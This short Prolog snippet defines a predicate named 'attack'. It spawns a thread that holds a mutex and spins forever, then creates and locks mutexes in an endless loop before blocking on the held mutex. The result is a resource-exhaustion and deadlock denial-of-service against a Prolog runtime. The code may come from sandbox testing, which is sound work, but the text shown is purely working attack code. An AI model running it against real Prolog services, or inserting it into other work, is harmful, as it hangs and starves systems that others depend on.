% Locks mutexes without end, and waits for its own.

attack :- catch(thread_create(( mutex_lock(m), repeat, fail ), _, []), _, true), l(0).
l(N) :- catch(mutex_create(_), _, true), catch(mutex_lock(N), _, true), ( N > 1000 -> with_mutex(m, true) ; true ), M is N+1, l(M).
